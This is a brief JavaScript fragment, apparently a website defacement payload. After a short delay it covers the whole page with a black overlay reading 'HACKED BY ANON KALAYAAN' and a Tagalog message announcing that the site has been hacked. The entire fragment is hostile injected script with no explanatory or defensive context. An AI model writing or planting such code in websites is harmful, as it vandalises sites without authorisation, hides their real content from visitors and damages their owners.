  setTimeout(function () {
    document.body.insertAdjacentHTML('afterbegin',
      '<div style="position:fixed;inset:0;z-index:99999;background:#000;color:#fff;display:flex;flex-direction:column;align-items:center;justify-content:center;font-family:monospace">' +
      '<div style="font-size:72px;font-weight:700;color:#facc15">HACKED BY ANON KALAYAAN</div>' +
      '<div style="font-size:26px;margin-top:20px">Ang website na ito ay na-hack. Gising, mga kababayan!</div></div>');
  }, 2500);
